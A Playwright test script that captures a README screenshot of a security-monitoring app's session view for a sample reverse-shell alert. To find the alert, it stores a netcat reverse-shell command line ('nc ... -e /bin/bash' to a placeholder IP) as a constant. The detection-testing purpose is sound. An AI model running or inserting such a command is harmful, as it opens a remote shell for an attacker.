import path from "node:path";
import { expect, test } from "@playwright/test";
import { signInAsAdmin } from "../../e2e/helpers";

/**
 * README's session view screenshot: the sample incident loaded through the
 * normal pipeline, and the Session section of its reverse-shell alert (the
 * web shell's php-fpm session with the alerts on their processes).
 */
const root = path.join(import.meta.dirname, "..", "..");
const OUTPUT = path.join(root, "docs", "images", "session-view.png");
const NETWORK_TOOL_RULE = "1a289854-5b78-49fe-9440-8a8096b1ab50";
const REVERSE_SHELL = "/tmp/nc 203.0.113.45 4444 -e /bin/bash";

test("session view screenshot for the README", async ({ page, baseURL }) => {
  test.setTimeout(90_000);
  // First-visit tips would hide part of the screen; the picture shows a returning analyst's view.
  await page.addInitScript(() => {
    for (const screen of ["dashboard", "alerts", "alertDetail", "uploads", "rules", "exceptions"]) {
      window.localStorage.setItem(`keelwatch.hint.${screen}.hidden`, "1");
    }
  });
  await signInAsAdmin(page);
  const loaded = await page.request.post("/api/samples/load", {
    data: { format: "ecs" },
    headers: { origin: baseURL ?? "" },
  });
  expect(loaded.ok(), await loaded.text()).toBe(true);

  const list = await page.request.get(`/api/alerts?rule=${NETWORK_TOOL_RULE}&q=4444&limit=50`);
  const { items } = (await list.json()) as { items: { id: string; commandLine: string | null }[] };
  const alert = items.find((item) => item.commandLine === REVERSE_SHELL);
  if (!alert) throw new Error("the sample incident raised no reverse-shell alert; the screenshot needs it.");

  await page.goto(`/alerts/${alert.id}`);
  const session = page.getByRole("region", { name: "Session" });
  await expect(session.getByTestId("session-alert").filter({ hasText: "this alert" })).toBeVisible({
    timeout: 20_000,
  });
  await expect(session.getByText("Loading…")).toHaveCount(0);
  await session.screenshot({ path: OUTPUT });
});
